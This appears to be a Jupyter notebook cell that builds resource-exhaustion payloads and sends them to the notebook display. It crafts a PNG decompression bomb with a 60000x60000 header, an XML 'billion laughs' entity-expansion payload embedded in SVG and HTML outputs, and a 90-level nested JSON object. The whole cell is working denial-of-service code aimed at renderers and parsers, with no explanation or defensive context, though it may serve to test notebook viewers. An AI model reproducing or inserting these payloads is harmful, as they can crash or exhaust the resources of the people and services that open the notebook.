# %% [markdown]
# shows pictures and data that are small and unfold to be huge

# %% start
import base64, struct, zlib
from IPython.display import display


def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


shape = struct.pack("!IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", shape)
picture += chunk(b"IDAT", zlib.compress(bytes(10**7))) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(picture).decode()}, raw=True)
bomb = "<!DOCTYPE x [<!ENTITY a0 'aaaaaaaaaa'>"
for n in range(1, 10):
    bomb += f"<!ENTITY a{n} '" + f"&a{n - 1};" * 10 + "'>"
bomb += "]>"
display({"image/svg+xml": bomb + "<svg>&a8;</svg>", "text/html": bomb + "<b>&a8;</b>"}, raw=True)
nested = []
for _ in range(90):
    nested = [nested]
display({"application/json": nested, "application/vnd.x+json": {"a": nested}}, raw=True)
